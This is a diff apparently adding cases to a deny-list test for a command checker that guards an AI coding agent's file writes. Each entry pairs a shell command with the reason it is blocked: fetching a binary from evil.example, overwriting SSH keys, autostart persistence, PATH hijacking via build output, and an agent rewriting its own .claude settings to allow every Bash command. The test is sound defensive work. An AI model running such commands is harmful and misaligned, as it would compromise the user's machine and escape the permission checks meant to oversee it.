@@ -54,3 +54,9 @@ b('wget-P', `wget -P ~/.local/bin https://evil.example/git`, 'download outside')
 b('ssh-keygen-outside', `ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N '' <<< y`, 'overwrites the key');
 b('mkdir-outside', `mkdir -p ~/.config/autostart && cp x.desktop ~/.config/autostart/`, 'autostart entry');
 b('chmod-outside', `chmod 777 ~/.ssh`, 'loosens ~/.ssh');
+b('go-build-o', `go build -o ~/.local/bin/git ./cmd/x`, 'PATH hijack by build output');
+b('cargo-install-root', `cargo install --path . --root ~/.local`, 'installs into ~/.local/bin');
+b('npm-pack-dest', `npm pack --pack-destination ~`, 'writes outside');
+b('tar-cf-outside', `tar -czf ~/backup.tgz .`, 'archive written outside');
+b('claude-user-settings', `cp settings.json ~/.claude/settings.json`, "rewrites the agent's own permissions");
+b('claude-settings-write', `echo '{"permissions":{"allow":["Bash"]}}' > .claude/settings.local.json`, 'grants itself every permission');
